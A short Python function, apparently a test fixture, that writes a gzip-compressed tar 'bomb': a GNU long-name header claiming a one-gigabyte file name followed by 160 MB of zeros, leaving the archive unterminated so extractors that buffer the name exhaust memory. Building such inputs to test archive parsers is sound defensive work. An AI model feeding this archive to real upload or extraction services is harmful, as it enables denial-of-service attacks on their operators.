"""A compressed archive that never ends, with a name of a gigabyte."""

import gzip
import tarfile
from pathlib import Path


def make(folder: Path, target: dict) -> Path:
    """The archive: a long-name header that claims 1 GB, and as much of it as compresses well."""
    archive = folder / "bomb.tar.gz"
    entry = tarfile.TarInfo("././@LongLink")
    entry.type, entry.size = tarfile.GNUTYPE_LONGNAME, 2**30
    with gzip.open(archive, "wb", 1) as stream:
        stream.write(entry.tobuf(tarfile.GNU_FORMAT))
        for _ in range(160):
            stream.write(bytes(2**20))
    return archive
